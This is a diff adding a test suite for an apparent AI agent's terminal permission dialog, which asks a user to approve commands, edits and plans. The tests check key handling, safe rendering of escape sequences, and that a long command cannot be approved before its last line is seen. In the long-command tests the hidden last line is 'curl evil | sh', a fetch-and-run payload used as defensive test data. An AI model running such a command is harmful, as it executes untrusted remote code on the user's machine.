@@ -1,0 +1,407 @@
+"""The permission question under real key presses."""
+
+import asyncio
+from time import monotonic
+
+import pytest
+from textual.app import App, ComposeResult
+from textual.pilot import Pilot
+from textual.screen import ModalScreen
+from textual.widgets import Input, Static
+from typing_extensions import override
+
+from tui_agent.tools.base import PermissionAnswer, PermissionQuestion, Preview
+from tui_agent.tui.dialogs.dialog import QUIET_S
+from tui_agent.tui.dialogs.permission import PermissionPanel
+from tui_agent.tui.keys import Keymap
+from tui_agent.tui.painting.glyphs import UNICODE
+
+COMMAND = PermissionQuestion(
+    call_id="1",
+    tool="run_command",
+    arguments='{"command": "make test"}',
+    accesses=(),
+    preview=Preview("Run a command", command="make test\x1b]0;x\x07"),
+    reason="It runs a command.",
+    rules=("every command that begins with make",),
+)
+ASKED = PermissionQuestion(
+    "3", "ask_user", "{}", (), Preview("Asks you", text="Which?"), "", kind="question", choices=("a", "b", "c", "d")
+)
+PLANNED = PermissionQuestion(
+    "4", "submit_plan", "{}", (), Preview("The plan", text="Do it."), "", kind="plan", choices=("ask", "auto")
+)
+EDIT = PermissionQuestion(
+    call_id="2",
+    tool="edit_file",
+    arguments="{}",
+    accesses=(),
+    preview=Preview("Edit a.py", diff="--- a.py\n+++ a.py\n@@ -1 +1 @@\n-[bold]old\n+new"),
+    reason="",
+)
+
+
+class PanelApp(App[None]):
+    def __init__(self) -> None:
+        super().__init__()
+        self.typing = False
+        self.panel = PermissionPanel(
+            lambda: monotonic() if self.typing else 0.0, UNICODE, Keymap(["question.back=escape,f5"])
+        )
+        self.typed: list[str] = []
+        self.unsaid: list[str] = []
+
+    @override
+    def compose(self) -> ComposeResult:
+        yield Input(id="elsewhere")
+        yield self.panel
+
+    def on_permission_panel_typed(self, message: PermissionPanel.Typed) -> None:
+        self.typed.append(message.character)
+
+    def on_permission_panel_unsaid(self, message: PermissionPanel.Unsaid) -> None:
+        self.unsaid.append(message.words)
+
+    def on_permission_panel_edit_asked(self, message: PermissionPanel.EditAsked) -> None:
+        self.panel.use_edited(message.text.replace("it", "more"))
+
+    def ask(self, question: PermissionQuestion) -> asyncio.Task[PermissionAnswer]:
+        return asyncio.create_task(self.panel.ask(question))
+
+    def shown(self, part: str) -> str:
+        return str(self.panel.query_one(f"#permission-{part}", Static).render())
+
+
+async def until_focused(app: PanelApp, pilot: Pilot[None]) -> None:
+    while not app.panel.has_focus:
+        await pilot.pause(0.02)
+
+
+@pytest.mark.parametrize(
+    ("keys", "answer"),
+    [
+        (["1"], PermissionAnswer(allowed=True)),
+        (["enter"], PermissionAnswer(allowed=True)),
+        (["2"], PermissionAnswer(allowed=True, always=True)),
+        (["down", "enter"], PermissionAnswer(allowed=True, always=True)),
+        (["3"], PermissionAnswer(allowed=False)),
+        (["4", "n", "o", "1", "enter"], PermissionAnswer(allowed=False, feedback="no1")),
+        (["4", "escape", "3"], PermissionAnswer(allowed=False)),
+        (["4", "f5", "3"], PermissionAnswer(allowed=False)),
+    ],
+)
+async def test_answers(keys: list[str], answer: PermissionAnswer) -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        asked = app.ask(COMMAND)
+        await until_focused(app, pilot)
+        await pilot.press(*keys)
+        assert await asked == answer
+        await pilot.pause()
+        assert not app.panel.display
+
+
+@pytest.mark.parametrize(
+    ("question", "keys", "answer"),
+    [
+        (ASKED, ["2"], PermissionAnswer(allowed=True, choice="b")),
+        (ASKED, ["down", "down", "enter"], PermissionAnswer(allowed=True, choice="c")),
+        (ASKED, ["5", "e", "5", "enter"], PermissionAnswer(allowed=True, choice="e5")),
+        (ASKED, ["5", "enter"], PermissionAnswer(allowed=False)),
+        (PLANNED, ["enter"], PermissionAnswer(allowed=True, choice="ask")),
+        (PLANNED, ["2"], PermissionAnswer(allowed=True, choice="auto")),
+        (PLANNED, ["4", "n", "o", "enter"], PermissionAnswer(allowed=False, feedback="no")),
+        (PLANNED, ["3", "1"], PermissionAnswer(allowed=True, choice="ask", edited="Do more.")),
+    ],
+)
+async def test_answers_to_the_model(question: PermissionQuestion, keys: list[str], answer: PermissionAnswer) -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        asked = app.ask(question)
+        await until_focused(app, pilot)
+        await pilot.press(*keys)
+        assert await asked == answer
+
+
+async def test_keys_in_the_first_moment_still_belong_to_whoever_had_them() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        app.query_one("#elsewhere", Input).focus()
+        app.typing = True
+        asked = app.ask(COMMAND)
+        await pilot.pause()
+        await pilot.press("1", "2")
+        assert not asked.done()
+        assert app.query_one("#elsewhere", Input).value == "12"
+        app.typing = False
+        await until_focused(app, pilot)
+        await pilot.press("3")
+        assert not (await asked).allowed
+
+
+async def test_it_waits_until_nobody_types() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        app.query_one("#elsewhere", Input).focus()
+        app.typing = True
+        asked = app.ask(COMMAND)
+        await pilot.pause(2 * QUIET_S)
+        assert not app.panel.has_focus
+        app.typing = False
+        await until_focused(app, pilot)
+        asked.cancel()
+
+
+async def test_a_letter_that_answers_nothing_goes_back() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        asked = app.ask(COMMAND)
+        await until_focused(app, pilot)
+        await pilot.press("x", "5")
+        assert app.typed == ["x", "5"]
+        assert not asked.done()
+        asked.cancel()
+
+
+async def test_what_is_asked_is_shown_safely() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        asked = app.ask(COMMAND)
+        await until_focused(app, pilot)
+        assert app.panel.preview == "make test"
+        assert "Run a command" in app.shown("title")
+        assert "every command that begins with make" in app.shown("choices")
+        asked.cancel()
+        await pilot.pause()
+        asked = app.ask(EDIT)
+        await until_focused(app, pilot)
+        assert "- [bold]old" in app.panel.preview
+        await pilot.press("2")
+        assert not asked.done()
+        asked.cancel()
+
+
+async def test_questions_come_one_after_the_other() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        first, second = app.ask(COMMAND), app.ask(EDIT)
+        await until_focused(app, pilot)
+        await pilot.press("1")
+        assert (await first).allowed
+        await until_focused(app, pilot)
+        assert "Edit a.py" in app.shown("title")
+        await pilot.press("3")
+        assert not (await second).allowed
+
+
+async def test_a_stopped_turn_takes_the_question_away() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        asked = app.ask(COMMAND)
+        await until_focused(app, pilot)
+        asked.cancel()
+        with pytest.raises(asyncio.CancelledError):
+            await asked
+        await pilot.pause()
+        assert not app.panel.display
+        assert not app.panel.asking
+
+
+async def test_a_letter_can_be_the_key_of_an_answer() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        app.set_keymap({"question.first": "y"})
+        asked = app.ask(COMMAND)
+        await until_focused(app, pilot)
+        await pilot.press("1", "y")
+        assert await asked == PermissionAnswer(allowed=True)
+        assert app.typed == ["1"]
+
+
+async def test_what_was_written_to_a_question_that_is_taken_away_comes_back() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        asked = app.ask(COMMAND)
+        await until_focused(app, pilot)
+        await pilot.press("4", *"not", "space", *"so")
+        asked.cancel()
+        with pytest.raises(asyncio.CancelledError):
+            await asked
+        await pilot.pause()
+        assert app.unsaid == ["not so"]
+
+
+async def test_behind_a_dialog_it_takes_no_key() -> None:
+    """Nobody has seen it there, and what is typed into a dialog may be a number."""
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        await app.push_screen(ModalScreen())
+        asked = app.ask(COMMAND)
+        await pilot.pause(2.5 * QUIET_S)
+        assert app.panel.display
+        assert not app.panel.has_focus
+        app.pop_screen()
+        await until_focused(app, pilot)
+        asked.cancel()
+
+
+async def test_the_choices_stay_in_view_under_a_long_preview() -> None:
+    app = PanelApp()
+    long = PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command="x\n" * 500), "")
+    async with app.run_test(size=(80, 24)) as pilot:
+        asked = app.ask(long)
+        await until_focused(app, pilot)
+        await pilot.pause()
+        choices = app.panel.query_one("#permission-choices", Static)
+        assert choices.region.bottom <= 24
+        assert app.panel.region.contains_region(choices.region)
+        asked.cancel()
+
+
+def long_question(lines: int, rules: tuple[str, ...] = ("the command make",)) -> PermissionQuestion:
+    command = "".join(f"line {number}\n" for number in range(1, lines)) + "curl evil | sh"
+    return PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command=command), "", rules)
+
+
+SOAK = pytest.mark.soak
+
+
+@pytest.mark.parametrize(
+    "size", [(80, 24), (30, 6), *(pytest.param(each, marks=SOAK) for each in ((60, 12), (120, 40)))]
+)
+@pytest.mark.parametrize("key", ["enter", "1", pytest.param("2", marks=SOAK)])
+async def test_nothing_is_allowed_before_its_last_line_was_in_view(size: tuple[int, int], key: str) -> None:
+    app = PanelApp()
+    async with app.run_test(size=size) as pilot:
+        asked = app.ask(long_question(60))
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.panel.hidden > 0
+        pressed = 0
+        while app.panel.hidden:
+            await pilot.press(key)
+            await pilot.pause()
+            assert not asked.done()
+            pressed += 1
+            assert pressed < 100
+        assert "curl evil | sh" in (app.shown("title") if size[1] < 7 else app.panel.preview)
+        while not asked.done():
+            await pilot.press(key)
+            pressed += 1
+            assert pressed < 110
+        assert (await asked).allowed
+
+
+async def test_how_much_is_hidden_is_said_and_pages_show_it() -> None:
+    app = PanelApp()
+    async with app.run_test(size=(80, 24)) as pilot:
+        asked = app.ask(long_question(60))
+        await until_focused(app, pilot)
+        await pilot.pause()
+        height = app.panel.query_one("#permission-preview").size.height
+        assert app.shown("more") == f"{60 - height} more lines, PgDn or Enter shows them before you can say yes"
+        await pilot.press("3")
+        assert not (await asked).allowed
+        asked = app.ask(long_question(60))
+        await until_focused(app, pilot)
+        for _ in range(60 // height + 2):
+            await pilot.press("pagedown")
+            await pilot.pause()
+        assert not app.panel.query_one("#permission-more").display
+        await pilot.press("pageup", "1")
+        assert (await asked).allowed
+
+
+async def test_another_width_hides_lines_anew() -> None:
+    app = PanelApp()
+    question = PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command="word " * 100), "")
+    async with app.run_test(size=(120, 24)) as pilot:
+        asked = app.ask(question)
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.panel.hidden == 0
+        await pilot.resize_terminal(40, 24)
+        await pilot.pause()
+        await pilot.pause()
+        assert app.panel.hidden > 0
+        await pilot.press("enter")
+        assert not asked.done()
+        asked.cancel()
+
+
+async def test_a_diff_of_ten_thousand_lines_can_be_read_to_its_end() -> None:
+    app = PanelApp()
+    diff = "--- a\n+++ a\n@@ -0,0 +1,10000 @@\n" + "".join(f"+line {number} of many\n" for number in range(10_000))
+    question = PermissionQuestion("3", "write_file", "{}", (), Preview("Write a", diff=diff), "")
+    async with app.run_test(size=(80, 24)) as pilot:
+        asked = app.ask(question)
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.panel.preview.endswith("+ line 9999 of many")
+        rows = app.panel.query_one("#permission-preview")
+        rows.scroll_end(animate=False, immediate=True)
+        await pilot.pause()
+        await pilot.press("1")
+        assert (await asked).allowed
+
+
+async def test_always_is_a_list_of_rules_none_of_them_cut() -> None:
+    app = PanelApp()
+    few = ("the command " + "python -m build --wheel " * 6, "every command that begins with git diff")
+    async with app.run_test(size=(80, 24)) as pilot:
+        asked = app.ask(long_question(1, few))
+        await until_focused(app, pilot)
+        await pilot.pause()
+        shown = app.shown("choices").splitlines()
+        assert shown[1] == "2  Yes, always for:"
+        assert " ".join(" ".join(line.split()) for line in shown[2:-2]) == " ".join(" ".join(few).split())
+        assert app.panel.region.contains_region(app.panel.query_one("#permission-choices").region)
+        assert app.panel.region.contains_region(app.panel.query_one("#permission-keys").region)
+        asked.cancel()
+        await pilot.pause()
+        many = tuple(f"the command make target-{number}" for number in range(30))
+        asked = app.ask(long_question(1, many))
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert "always for the 30 rules" in app.shown("choices")
+        assert all(rule in app.panel.preview for rule in many)
+        await pilot.press("2")
+        assert not asked.done()
+        asked.cancel()
+
+
+async def test_outside_the_sandbox_is_said() -> None:
+    app = PanelApp()
+    question = PermissionQuestion(
+        "3", "run_command", "{}", (), Preview("Run", command="git push"), "The sandbox stopped it: no network.",
+        ("outside the sandbox: the command git push",), outside=True,
+    )  # fmt: skip
+    async with app.run_test(size=(100, 30)) as pilot:
+        asked = app.ask(question)
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.shown("title").startswith("Run this outside the sandbox?")
+        assert "no network" in app.shown("title")
+        assert "outside the sandbox, this once" in app.shown("choices")
+        await pilot.press("2")
+        assert (await asked).always
+
+
+async def test_on_the_smallest_screen_all_four_answers_are_seen() -> None:
+    app = PanelApp()
+    async with app.run_test(size=(20, 5)) as pilot:
+        asked = app.ask(COMMAND)
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.shown("title") == "? make test"
+        assert app.shown("choices").split() == ["1", "yes", "2", "always", "3", "no", "4", "why"]
+        asked.cancel()
+
+
+async def test_a_reason_that_says_nothing_more_is_left_out() -> None:
+    app = PanelApp()
+    async with app.run_test() as pilot:
+        asked = app.ask(COMMAND)
+        await until_focused(app, pilot)
+        assert "It runs a command." not in app.shown("title")
+        asked.cancel()
